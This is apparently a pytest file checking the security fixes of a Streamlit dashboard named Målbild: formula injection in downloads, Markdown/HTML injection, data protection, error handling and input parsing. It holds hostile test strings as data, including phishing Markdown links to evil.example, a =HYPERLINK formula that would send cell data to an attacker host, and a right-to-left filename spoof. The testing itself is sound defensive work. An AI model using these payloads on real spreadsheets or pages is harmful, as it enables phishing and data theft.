"""Nobody can trick Målbild (issue 9): one test group per numbered finding, each fails on the code before the fix.

1 formula injection in downloads · 2 markdown/HTML injection from URLs and data · 3 entered figures destroyed ·
4 tracebacks and an unused good database · 5 commands ignoring $DASHBOARD_DATA · 6 loader messages · 7 filters ·
8 exposure (server defaults, build litter, Session State warning).
"""

from __future__ import annotations

import copy
import csv
import io
import json
import logging
import os
import re
import shutil
import subprocess
import sys
import tomllib
from datetime import date
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from conftest import MINI, REPO, write_dataset
from openpyxl import load_workbook
from page_helpers import blocks, each_tab_opened, shown_metrics

from malbild.data.build import BuildError, StoreError, build, clean_litter, ensure_database, main
from malbild.data.queries import run_query
from malbild.export.tables import to_csv, to_xlsx
from malbild.paths import DATA_DIR
from malbild.texts.safe import cell, md, plotly_text
from malbild.views.projects import describe_filters
from tools.app_page import drawn

# The repro strings of the issue.
PHISHING_Q = (
    "[Sessionen har gått ut – logga in här](https://evil.example/login) ![t](http://attacker/q.png) :red[**VARNING**]"
)
HOSTILE = "[klick](https://evil.example/x) ![t](http://attacker/q.png) :red[**VARNING**] <b>fet</b>"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")', "=1+2", "@SUM(A1)", "+1+2", "-1+2", "\t=1", "\r=1"]
DAY = date(2019, 3, 14)

# Markdown that would act: a link or image ("](", "!["), a directive (":red"), a URL or www. address that GFM
# turns into a link (found in the text after escapes, so only a character in between stops it), HTML or an
# autolink in angle brackets, bold. A backslash before the character means it is shown as written.
LIVE_MARKUP = re.compile(
    r"(?<!\\)\[|(?<!\\)\]|(?:https?|ftp)\\?://|\bwww\\?\.|(?<!\\)<[a-zA-Z/]|(?<!\\)\*\*VARNING"
    r"|(?<!\\):(?:red|blue|green|orange|violet|gray|grey|rainbow|primary)\b"
)


def live_markup(text: str) -> list[str]:
    """The pieces of markup in text that Markdown would render live."""
    return [m.group(0) for m in LIVE_MARKUP.finditer(text)]


# 1. Formula injection in the downloads ---------------------------------------------------------------------------


def hostile_rows() -> pd.DataFrame:
    """Project rows whose owner and project names start formulas; one negative amount (a number, not text)."""
    n = len(FORMULAS)
    return pd.DataFrame(
        {
            "goal_id": [5] * n,
            "name_sv": ["=Mål"] * n,
            "name_en": ["=Goal"] * n,
            "year": [2018] * n,
            "owner": list(reversed(FORMULAS)),
            "project": FORMULAS,
            "amount_sek": [-5000] + [1000 * i for i in range(1, n)],
            "basis": ["stated"] * n,
            "source_lines": ["4869"] * n,
        }
    )


HOSTILE_FILTERS = describe_filters(["=Mål 5"], ["=1+2", "@x"], (None, None), "=HYPERLINK(1)", "sv")


def starts_formula(value: object) -> bool:
    """Whether a spreadsheet would read this cell as a formula."""
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_safe_cell_neutralises_text_and_keeps_numbers() -> None:
    assert [cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert cell(-5000) == -5000 and cell(3.5) == 3.5 and cell(None) is None
    assert cell("Avanäs företagspark") == "Avanäs företagspark" and cell("4298;4300-4302") == "4298;4300-4302"


def test_csv_neutralises_every_formula_cell() -> None:
    data = to_csv(hostile_rows(), HOSTILE_FILTERS, "sv", DAY)
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [c for line in lines for c in line]
    numbers = re.compile(r"-?[0-9]+")  # a negative amount is a number (Excel reads it as one), not a formula
    assert not [c for c in cells if starts_formula(c) and not numbers.fullmatch(c)], "a cell would be a formula"
    table = lines  # the header on the first line (the description is in the Excel file)
    assert sorted(r[4] for r in table[1:]) == sorted("'" + v for v in FORMULAS)  # project names kept, neutralised
    assert [r[5] for r in table[1:]][0] == "-5000"  # a negative amount stays a number


def test_excel_cells_are_strings_or_numbers_never_formulas() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(hostile_rows(), HOSTILE_FILTERS, "sv", DAY)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                # text, a number, or a date ('Om urvalet': the export date); never a formula ('f')
                assert c.data_type in ("s", "n", "d"), (sheet.title, c.coordinate, c.data_type, c.value)
                if isinstance(c.value, str):
                    assert c.data_type == "s" and not starts_formula(c.value), (sheet.title, c.coordinate, c.value)
    rows = list(book["Projekt"].iter_rows(min_row=2, values_only=True))
    assert sorted(r[4] for r in rows) == sorted("'" + v for v in FORMULAS)
    amounts = [r[5] for r in rows]
    assert -5000 in amounts and all(isinstance(a, int) for a in amounts)
    about = {r[0]: r[1] for r in book["Om urvalet"].iter_rows(values_only=True) if r and r[0]}
    assert "aldrig formler" in about["Textceller"]


# 2. Markdown and HTML injection ----------------------------------------------------------------------------------


def test_md_shows_the_repro_strings_as_text() -> None:
    for text in (PHISHING_Q, HOSTILE, "se https://evil.example och www.evil.example"):
        assert live_markup(text) and live_markup(md(text)) == [], md(text)
    assert md("- a\n1. b\n# c") == "\\- a\n1\\. b\n\\# c"  # no list, no heading
    assert md("Mål 5: Platsbaserad näringslivsutveckling") == "Mål 5: Platsbaserad näringslivsutveckling"
    assert plotly_text("<b>fet</b> & <a href='x'>") == "&lt;b&gt;fet&lt;/b&gt; &amp; &lt;a href='x'&gt;"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bundled data with hostile names: goal 5's name, its largest project, and owners, built into a database."""
    folder = Path(
        shutil.copytree(
            DATA_DIR, tmp_path_factory.mktemp("hostile") / "data", ignore=shutil.ignore_patterns("*.duckdb*")
        )
    )
    with open(folder / "project_grant.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    goal, owner, project, amount = (header.index(c) for c in ("goal_id", "owner", "project", "amount_sek"))
    goal5 = sorted((r for r in body if r[goal] == "5"), key=lambda r: -int(r[amount]))
    goal5[0][project] = HOSTILE  # the largest: named in "Störst: …" on the goal page and the walk-through
    goal5[1][owner] = HOSTILE
    largest = max(body, key=lambda r: int(r[amount]))
    largest[owner] = '=HYPERLINK("http://evil.example","x") ' + HOSTILE
    with open(folder / "project_grant.csv", "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *body])
    with open(folder / "goal.csv", encoding="utf-8", newline="") as handle:
        goals = list(csv.reader(handle))
    goals[5][1] = "Platsbaserad " + HOSTILE
    with open(folder / "goal.csv", "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(goals)
    target = folder.parent / "hostile.duckdb"
    build(target, folder)
    return target


def markdown_texts(at) -> list[str]:
    """Every text the page hands to Streamlit's Markdown renderer."""
    texts = [
        e.value
        for kind in ("markdown", "caption", "title", "header", "subheader", "warning", "info", "error", "success")
        for e in at.get(kind)
    ]
    texts += [m.label for m in shown_metrics(at)]
    texts += [e.label for e in at.expander]
    for table in at.get("table"):
        frame = table.value
        texts += [str(c) for c in frame.columns]
        texts += [v for col in frame.columns for v in frame[col] if isinstance(v, str)]
    return texts


def live_html(at) -> list[str]:
    """Hostile markup that became live in an HTML block: a <b> or <img> tag, or a link to evil.example."""
    return [
        f"<{tag} {attrs}>"
        for tag, attrs in blocks(at).tags
        if tag in ("b", "img")
        and "mb-" not in str(attrs)
        or any("evil.example" in str(v) or "attacker" in str(v) for v in attrs.values())
    ]


def chart_strings(at) -> list[str]:
    """Every string in the page's Plotly figures."""
    out: list[str] = []

    def walk(value) -> None:
        if isinstance(value, str):
            out.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    for el in at.get("plotly_chart"):
        walk(json.loads(el.proto.spec))
    return out


def hostile_pages(n_steps: int) -> list[tuple[str, dict]]:
    """Every page, with the hostile goal and search text in the URL where the page reads them."""
    pages = [
        ("app.py", {}),
        ("pages/1_Goals.py", {"goal": "5"}),
        ("pages/2_Projects.py", {"q": PHISHING_Q}),
        ("pages/2_Projects.py", {"goal": "5"}),
        ("pages/3_Personnel.py", {}),
        ("pages/4_Finance.py", {}),
        ("pages/5_Sources.py", {}),
    ]
    return pages + [("pages/6_Walkthrough.py", {"step": str(i)}) for i in range(1, n_steps + 1)]


def test_hostile_strings_render_as_text_on_every_page(hostile_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:

    from malbild.views.walkthrough import walkthrough_steps

    monkeypatch.setenv("DASHBOARD_DB", str(hostile_db))
    monkeypatch.setenv("DASHBOARD_DATA", str(hostile_db.parent / "data"))  # else the start-up check rebuilds it
    con = duckdb.connect(str(hostile_db), read_only=True)
    n_steps = len(walkthrough_steps(con))
    con.close()
    seen_hostile = 0
    for page, params in hostile_pages(n_steps):
        at = drawn(page, params)
        assert not at.exception, (page, [e.value for e in at.exception])
        texts = markdown_texts(at)
        seen_hostile += sum("klick" in t or "Sessionen" in t for t in texts + blocks(at).texts)
        live = {t[:80]: live_markup(t) for t in texts if live_markup(t)}
        assert not live, (page, params, live)
        assert not live_html(at), (page, params, live_html(at))
        strings = chart_strings(at)
        for opened in each_tab_opened(at):  # the charts of lazy tabs are drawn only when opened
            assert not opened.exception, (page, [e.value for e in opened.exception])
            assert not [t for t in markdown_texts(opened) if live_markup(t)], (page, params)
            assert not live_html(opened), (page, params)
            strings += chart_strings(opened)
        assert not [s for s in strings if "<b>fet" in s or "<a " in s], (page, params)
    assert seen_hostile >= 5, "the hostile names reached the pages (as text)"


# 3. Entered figures are never destroyed --------------------------------------------------------------------------


def add_entered_row(db: Path) -> None:
    """Add one staff-entered assessment (goal 2, 2019) to a database."""
    con = duckdb.connect(str(db))
    con.execute("INSERT INTO src.goal_assessment VALUES (2, 2019, 3, 'entered', 'staff', 'ar2018', 'input')")
    con.close()


def entered(db: Path) -> list[tuple]:
    """The staff-entered assessments in a database."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute("SELECT goal_id, year, level FROM src.goal_assessment WHERE basis = 'entered'").fetchall()
    finally:
        con.close()


def test_make_db_refuses_to_rebuild_over_entered_rows(mini_data: Path, tmp_path: Path, capsys) -> None:
    db = tmp_path / "dashboard.duckdb"
    build(db, mini_data)
    add_entered_row(db)
    before = db.read_bytes()
    assert main(["--db", str(db), "--data", str(mini_data)]) == 2
    err = capsys.readouterr().err
    assert "refused" in err and "1 row(s) entered by staff" in err and "Nothing was changed" in err
    assert "Move the file elsewhere (or export the entered rows)" in err  # and what to do
    assert entered(db) == [(2, 2019, 3)] and db.read_bytes() == before
    # What `make run`/`deck`/`snapshot` do keeps them too.
    assert main(["--db", str(db), "--data", str(mini_data), "--if-needed"]) == 0
    assert entered(db) == [(2, 2019, 3)]
    # And `make clean` refuses to delete them.
    assert main(["--db", str(db), "--clean"]) == 2
    assert "refused" in capsys.readouterr().err
    assert entered(db) == [(2, 2019, 3)]


def test_make_clean_removes_a_database_it_built(mini_data: Path, tmp_path: Path) -> None:
    db = tmp_path / "dashboard.duckdb"
    build(db, mini_data)
    litter = tmp_path / ".dashboard.duckdb.999999999.x.tmp"
    litter.write_bytes(b"")
    assert main(["--db", str(db), "--clean"]) == 0
    assert not db.exists() and not litter.exists()


HOLDER = """
import sys, duckdb
con = duckdb.connect(sys.argv[1])
con.execute("INSERT INTO src.goal_assessment VALUES (2, 2019, 1, 'entered', 'analyst', 'ar2018', 'input')")
print("holding", flush=True)
sys.stdin.readline()
con.close()
"""


def test_a_locked_database_is_told_from_corruption_and_never_replaced(mini_data: Path, tmp_path: Path) -> None:
    db = tmp_path / "dashboard.duckdb"
    build(db, mini_data)
    (mini_data / "goal.csv").write_text(
        (mini_data / "goal.csv").read_text(encoding="utf-8") + "3,Mål tre,Goal three,4\n", encoding="utf-8"
    )  # the data changed: the start-up check would rebuild
    inode = db.stat().st_ino
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout.readline().strip() == "holding"
        with pytest.raises(StoreError) as caught:
            ensure_database(db, mini_data)
        assert caught.value.reason == "locked"
        assert main(["--db", str(db), "--data", str(mini_data)]) == 2
    finally:
        holder.communicate("done\n", timeout=30)
    assert db.stat().st_ino == inode, "the file was replaced"
    assert entered(db) == [(2, 2019, 1)], "the other process's write survives"
    # A damaged file is 'unreadable', not 'locked', and is not replaced either.
    broken = tmp_path / "broken.duckdb"
    broken.write_bytes(b"not a database" * 100)
    with pytest.raises(StoreError) as caught:
        ensure_database(broken, mini_data)
    assert caught.value.reason == "unreadable" and broken.read_bytes() == b"not a database" * 100


# 4. Plain sentences, never tracebacks; the last good database is served ------------------------------------------


def open_app(monkeypatch: pytest.MonkeyPatch, db: Path, data: Path, page: str = "app.py"):
    """Run a page against this database and data folder."""

    monkeypatch.setenv("DASHBOARD_DB", str(db))
    monkeypatch.setenv("DASHBOARD_DATA", str(data))
    return drawn(page)


def page_text(at) -> str:
    """All text on the page (for checking that no path or exception name leaks)."""
    return "\n".join(markdown_texts(at))


def assert_plain(at, db: Path) -> None:
    """No exception box, and neither a path nor an exception name on the page."""
    assert not at.exception, [e.value for e in at.exception]
    text = page_text(at)
    for leak in (str(db.parent), "Traceback", "BuildError", "OSError", "IsADirectoryError", "StoreError", ".csv"):
        assert leak not in text, leak


def test_failed_build_keeps_serving_the_last_good_database(data_copy: Path, tmp_path: Path, monkeypatch) -> None:
    db = tmp_path / "db" / "dashboard.duckdb"
    db.parent.mkdir()
    build(db, data_copy)
    with open(data_copy / "project_grant.csv", "a", encoding="utf-8") as handle:
        handle.write("5,2018,Ägare,Projekt,inte ett tal,stated,1\n")  # the rebuild stops at this line
    at = open_app(monkeypatch, db, data_copy)
    assert_plain(at, db)
    assert any(w.value.startswith("Uppgifterna kunde inte uppdateras: datafilerna innehåller fel") for w in at.warning)
    assert {m.label for m in shown_metrics(at)} >= {"Beviljat totalt 2018"}, "the old database is served"


def test_unwritable_folder_keeps_serving_the_last_good_database(data_copy: Path, tmp_path: Path, monkeypatch) -> None:
    db = tmp_path / "db" / "dashboard.duckdb"
    db.parent.mkdir()
    build(db, data_copy)
    (data_copy / "hr_metric.csv").write_text(
        (data_copy / "hr_metric.csv").read_text(encoding="utf-8") + "\n", encoding="utf-8"
    )  # same rows, changed file: the checksum differs

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied", str(db.parent))

    monkeypatch.setattr(
        "malbild.data.build.tempfile.mkstemp", refuse
    )  # what a read-only folder does (tests run as root)
    at = open_app(monkeypatch, db, data_copy)
    assert_plain(at, db)
    assert any("databasens mapp går inte att skriva i" in w.value for w in at.warning)
    assert {m.label for m in shown_metrics(at)} >= {"Beviljat totalt 2018"}


def test_db_setting_pointing_at_a_folder_gives_a_plain_sentence(data_copy: Path, tmp_path: Path, monkeypatch) -> None:
    folder = tmp_path / "a-folder"
    folder.mkdir()
    at = open_app(monkeypatch, folder, data_copy, "pages/2_Projects.py")
    assert_plain(at, folder)
    assert [e.value for e in at.error] == [
        "Uppgifterna kan inte visas just nu: databasens sökväg pekar på en mapp. "
        "Försök igen senare eller kontakta den som driver Målbild."
    ]
    assert list(folder.iterdir()) == []


def test_no_good_database_gives_a_plain_sentence(tmp_path: Path, monkeypatch) -> None:
    bad = write_dataset(tmp_path / "bad", {**MINI, "goal": [["goal_id", "name_sv"], ["1", "x"]]})
    db = tmp_path / "db.duckdb"
    at = open_app(monkeypatch, db, bad)
    assert_plain(at, db)
    assert [e.value for e in at.error][0].startswith("Uppgifterna kan inte visas just nu: datafilerna innehåller fel")
    assert not db.exists()


def test_error_details_are_off_in_production() -> None:
    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"
    from streamlit.config import ShowErrorDetailsConfigOptions

    assert "none" in {o.value for o in ShowErrorDetailsConfigOptions}  # a value Streamlit 1.67 accepts
    assert "showErrorDetails full" in (REPO / "README.md").read_text(encoding="utf-8")  # how to turn it on


# 5. Commands honour $DASHBOARD_DATA ------------------------------------------------------------------------------


@pytest.mark.parametrize("module", ["malbild.export.deck", "malbild.export.snapshot"])
def test_deck_and_snapshot_build_from_the_configured_data(
    module: str, mini_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import importlib

    mod = importlib.import_module(module)
    db = tmp_path / "x.duckdb"
    monkeypatch.setenv("DASHBOARD_DB", str(db))
    monkeypatch.setenv("DASHBOARD_DATA", str(mini_data))
    # The renderers are not what is tested here: which data the database is built from is.
    fake = (lambda *a, **k: b"x") if module.endswith("deck") else (lambda *a, **k: "x")
    monkeypatch.setattr(mod, "build_deck" if module.endswith("deck") else "build_snapshot", fake)
    out = tmp_path / "out.bin"
    mod.main(["--output", str(out)] + (["--no-charts"] if module.endswith("snapshot") else []))
    con = duckdb.connect(str(db), read_only=True)
    try:
        built_from = con.execute("SELECT value FROM src.build_info WHERE key = 'data_dir'").fetchone()[0]
        goals = con.execute("SELECT count(*) FROM src.goal").fetchone()[0]
    finally:
        con.close()
    assert built_from == str(mini_data) and goals == 2


# 6. The loader ---------------------------------------------------------------------------------------------------


def dataset_with(tmp_path: Path, table: str, rows: list[list[str]]) -> Path:
    """The mini dataset with one table replaced."""
    return write_dataset(tmp_path / "data", {**MINI, table: rows})


def test_loader_accepts_a_byte_order_mark(tmp_path: Path) -> None:
    data = write_dataset(tmp_path / "data")
    path = data / "goal.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    counts = build(tmp_path / "db.duckdb", data)
    assert counts["goal"] == 2


def test_loader_hints_at_semicolons(tmp_path: Path) -> None:
    data = write_dataset(tmp_path / "data")
    (data / "goal.csv").write_text("goal_id;name_sv;name_en;source_lines\n1;Mål ett;Goal one;1\n", encoding="utf-8")
    with pytest.raises(BuildError, match=r"goal.csv: line 1 \(header\).*separated by semicolons"):
        build(tmp_path / "db.duckdb", data)


@pytest.mark.parametrize("value", ["7_12_000", "٦٥٥٠٠٠", "1e400", "655 000", "--5", "6.5.5", "inf", "nan", "1e5"])
def test_loader_parses_numbers_strictly(tmp_path: Path, value: str) -> None:
    rows = copy.deepcopy(MINI["project_grant"])
    rows[1][4] = value
    data = dataset_with(tmp_path, "project_grant", rows)
    with pytest.raises(BuildError, match=r"project_grant.csv: line 2, column amount_sek: .* is not a number"):
        build(tmp_path / "db.duckdb", data)


@pytest.mark.parametrize("value", ["1e400", "inf", "nan", "-Infinity", "1_0.5", "٣.٥"])
def test_loader_refuses_infinite_and_odd_decimals(tmp_path: Path, value: str) -> None:
    rows = copy.deepcopy(MINI["hr_metric"])
    rows[1][3] = value  # hr_metric.value is a DOUBLE: float() would take these (1e400 as infinity)
    data = dataset_with(tmp_path, "hr_metric", rows)
    with pytest.raises(BuildError, match=r"hr_metric.csv: line 2, column value: .* is not a number"):
        build(tmp_path / "db.duckdb", data)


def test_loader_accepts_plain_numbers(tmp_path: Path) -> None:
    rows = copy.deepcopy(MINI["hr_metric"])
    rows[1][3] = "-110.50"
    data = dataset_with(tmp_path, "hr_metric", rows)
    db = tmp_path / "db.duckdb"
    build(db, data)
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("SELECT value FROM src.hr_metric").fetchone()[0] == -110.5
    con.close()


def test_loader_trims_spaces_and_says_so(tmp_path: Path, capsys) -> None:
    rows = copy.deepcopy(MINI["project_grant"])
    rows[1][2] = "  Umeå kommun "
    rows[1][4] = " 655000"
    data = dataset_with(tmp_path, "project_grant", rows)
    db = tmp_path / "db.duckdb"
    assert main(["--db", str(db), "--data", str(data)]) == 0
    out = capsys.readouterr().out
    assert "warning: project_grant.csv: line 2, column owner: spaces around 'Umeå kommun' were removed" in out
    assert "warning: project_grant.csv: line 2, column amount_sek: spaces around '655000' were removed" in out
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("SELECT owner, amount_sek FROM src.project_grant ORDER BY amount_sek DESC").fetchone() == (
        "Umeå kommun",
        655000,
    )
    con.close()


# 7. Filters ------------------------------------------------------------------------------------------------------


def test_search_wildcards_match_literally(con) -> None:
    def names(text: str) -> list[str]:
        """Project names matching a search text."""
        return run_query(
            con, "filtered_project_grants", goal_ids=[], owners=[], min_amount=None, max_amount=None, text=text
        )["project"].tolist()

    assert names("%") == [] and names("_") == [] and names("\\") == []
    assert len(names("förstudie")) >= 1 and all("förstudie" in n.lower() for n in names("förstudie"))
    assert names("RUS 2020+") == ["RUS 2020+"]


def metrics(at) -> dict[str, str]:
    """The page's metrics by label."""
    return {m.label: m.value for m in shown_metrics(at)}


@pytest.mark.parametrize("q", ["%", "_"])
def test_projects_page_search_for_wildcards_matches_nothing(open_page, q: str) -> None:
    at = open_page("pages/2_Projects.py", q=q)
    assert metrics(at)["Antal projekt"] == "0"


@pytest.mark.parametrize("goal", ["-3", "x", "3x", "99"])
def test_invalid_goal_in_the_url_is_rejected_with_a_message(open_page, goal: str) -> None:
    at = open_page("pages/2_Projects.py", goal=goal)
    assert at.multiselect(key="prj_goal").value == []
    assert metrics(at)["Antal projekt"] == "60", "the rest of the view: every project"
    assert [w.value for w in at.warning] == [
        f"Adressen nämner mål som inte finns (”{md(goal)}”); de används inte i urvalet."
    ]


@pytest.mark.parametrize("goal", ["-3", "x", "3x", "99", "", "[a](https://evil.example/x) :red[$x$]"])
def test_invalid_goal_on_the_goals_page_is_told_and_goal_1_shown(open_page, goal: str) -> None:
    """Issue 22, item 11: SECURITY.md promises a message for an invalid ?goal=; the page says it, then shows goal 1."""
    at = open_page("pages/1_Goals.py", goal=goal)
    assert at.selectbox(key="goal_widget").value == 1 and at.query_params["goal"] == "1"
    warnings = [w.value for w in at.warning]
    assert len(warnings) == 1, warnings
    assert warnings[0].startswith(f"Adressen nämner ett mål som inte finns (”{md(goal)}”); Mål 1: ")
    assert warnings[0].endswith(" visas i stället.") and not live_markup(warnings[0])
    assert at.run().warning.len == 0, "said once: the address now holds the goal shown"


def test_a_valid_goal_on_the_goals_page_gives_no_warning(open_page) -> None:
    assert [w.value for w in open_page("pages/1_Goals.py", goal="5").warning] == []


def test_reversed_amount_range_is_rejected_with_a_message(open_page) -> None:
    at = open_page("pages/2_Projects.py", amount=["2000000", "300000"], q="a")
    assert any("går baklänges" in w.value for w in at.warning)
    expected = open_page("pages/2_Projects.py", q="a")
    assert metrics(at)["Antal projekt"] == metrics(expected)["Antal projekt"] != "0"


def test_format_characters_are_written_out_wherever_text_is_shown() -> None:
    """A right-to-left override, an isolate, a zero-width space or joiner in stored or uploaded text is shown as
    '[U+202E]' in Markdown, HTML blocks, Plotly texts and grids, so 'Evil\u202efdp.exe' cannot read 'Evilexe.pdf'."""
    import unicodedata

    from malbild.markup import escape as esc
    from malbild.texts.safe import plotly_text, shown, shown_frame

    every_cf = "".join(chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf")
    assert shown(every_cf) == "".join(f"[U+{ord(ch):04X}]" for ch in every_cf)  # none let through, none missed
    for ch in ("\u202e", "\u2066", "\u200f", "\u200b", "\u200d", "\u2060", "\ufeff"):
        text = f"Evil{ch}fdp.exe"
        written = f"Evil[U+{ord(ch):04X}]fdp.exe"
        assert shown(text) == esc(text) == plotly_text(text) == written
        assert md(text) == written.replace("[", "\\[").replace("]", "\\]")
        assert shown_frame(pd.DataFrame({"a": [text, None]}))["a"].tolist() == [written, "–"]
    assert shown("Mål 5: Västerbotten – 2,9 %") == "Mål 5: Västerbotten – 2,9 %"  # ordinary text as it is


# A digit that is no ASCII digit (isdigit() accepts '²', int() refuses it; int() reads '٣' as 3), and more digits
# than int() takes (Python's 4 300-digit limit): refused with a sentence, the documented fallback shown.
LONG_NUMBER = "1" * 5000


STEP_COUNT = 11  # overview, goals 1-6, projects, personnel, finance, the verdicts (tests/test_walkthrough.py)


@pytest.mark.parametrize("raw", ["²", "٣", LONG_NUMBER, "0" * 20 + "4", str(STEP_COUNT + 1), "abc"])
def test_a_step_that_is_no_step_number_opens_step_1_with_a_sentence(open_page, raw: str) -> None:
    at = open_page("pages/6_Walkthrough.py", step=raw)
    assert at.query_params["step"] == "1"
    assert [t.value for t in at.title] == ["Översikt: Regionplanens mål"]
    shown = raw if len(raw) <= 40 else raw[:40] + "…"
    assert [w.value for w in at.warning] == [
        f"Adressen nämner ett steg som inte finns (”{md(shown)}”; stegen är 1 till {STEP_COUNT}). "
        "Genomgången visar steg 1."
    ]
    en = open_page("pages/6_Walkthrough.py", step=raw, lang="en")
    assert [w.value for w in en.warning] == [
        f"The address names a step that does not exist (”{md(shown)}”; the steps are 1 to {STEP_COUNT}). "
        "The walk-through shows step 1."
    ]


@pytest.mark.parametrize("amount", [["1", LONG_NUMBER], ["²", "2000000"], ["1" * 13, "2000000"], ["-3", "x"]])
def test_an_unreadable_amount_range_shows_every_amount_with_a_sentence(open_page, amount: list[str]) -> None:
    at = open_page("pages/2_Projects.py", amount=amount, q="a")
    assert [w.value for w in at.warning] == [
        "Beloppsintervallet i adressen kan inte läsas (två hela kronbelopp, till exempel "
        "?amount=300000&amount=2000000) och används inte; alla belopp visas."
    ]
    expected = open_page("pages/2_Projects.py", q="a")
    assert metrics(at)["Antal projekt"] == metrics(expected)["Antal projekt"] != "0"
    assert at.select_slider(key="amount").value == expected.select_slider(key="amount").value


def test_url_numbers_are_ascii_digits_of_bounded_length() -> None:
    from malbild.views.params import MAX_DIGITS, shown_value, whole_number

    assert whole_number("4", 1, 10) == 4 and whole_number(" 0004 ", 1, 10) == 4
    for raw in ("²", "٣", "４", "4.0", "+4", "-4", "", None, "1" * (MAX_DIGITS + 1), LONG_NUMBER):
        assert whole_number(raw) is None, raw
    assert whole_number("9" * MAX_DIGITS) == int("9" * MAX_DIGITS)
    assert whole_number("0", 1, 10) is None and whole_number("11", 1, 10) is None
    assert shown_value("x" * 41) == "x" * 40 + "…" and shown_value("x" * 40) == "x" * 40


# 8. Exposure -----------------------------------------------------------------------------------------------------


def test_server_defaults_for_production() -> None:
    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    server = config["server"]
    assert server["address"] == "127.0.0.1"  # metrics and app reachable from this machine only
    assert server["enableCORS"] is True and server["enableXsrfProtection"] is True
    assert 1 <= server["maxUploadSize"] <= 10
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    assert "--server.address 0.0.0.0" in readme and "/_stcore/metrics" in readme


def test_streamlit_has_no_switch_for_the_metrics_endpoint() -> None:
    # Checked in Streamlit 1.67's source: the metrics route is always added, no option turns it off. If a later
    # version adds one, set it in .streamlit/config.toml and update README/SECURITY.md.
    from streamlit import config

    options = [k for k in config._config_options_template if k.startswith("server.") and "metric" in k.lower()]
    assert options == ["server.unsafeMetricsUserAttributes"]


def test_build_litter_is_ignored_by_git() -> None:
    litter = ["data/.dashboard.duckdb.123.abcd.tmp", "data/.dashboard.duckdb.123.abcd.tmp.wal", "other/x.tmp.wal"]
    out = subprocess.run(["git", "check-ignore", "--no-index", *litter], cwd=REPO, capture_output=True, text=True)
    assert out.stdout.split() == litter


def test_the_build_removes_litter_of_a_killed_build(mini_data: Path, tmp_path: Path) -> None:
    db = tmp_path / "dashboard.duckdb"
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    pid = int(dead.stdout)
    litter = [tmp_path / f".dashboard.duckdb.{pid}.abcd.tmp", tmp_path / f".dashboard.duckdb.{pid}.abcd.tmp.wal"]
    running = tmp_path / f".dashboard.duckdb.{os.getpid()}.efgh.tmp"  # a build still under way: left alone
    for path in [*litter, running]:
        path.write_bytes(b"x")
    build(db, mini_data)
    assert not any(p.exists() for p in litter) and running.exists()
    assert clean_litter(db) == [] and sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == [
        running.name
    ]


def test_clearing_the_filters_logs_no_session_state_warning(open_page, monkeypatch, caplog) -> None:
    from streamlit.elements.lib import policies

    # AppTest runs without a Streamlit runtime, where the check is skipped; pretend there is one, as in a server.
    monkeypatch.setattr(policies.runtime, "exists", lambda: True)
    monkeypatch.setattr(policies, "_shown_default_value_warning", False)
    at = open_page("pages/2_Projects.py", amount=["300000", "2000000"], q="a")
    with caplog.at_level(logging.WARNING):
        at.button(key="prj_clear").click().run()
        at.select_slider(key="amount_1").set_value((500_000, 1_000_000)).run()  # a reset gives the slider a new key
        at.button(key="prj_clear").click().run()
    assert not at.exception
    assert at.select_slider(key="amount_2").value == (100_000, 9_000_000) and at.text_input(key="q").value == ""
    assert "amount" not in at.query_params
    assert not [r for r in caplog.records if "Session State" in r.getMessage()]
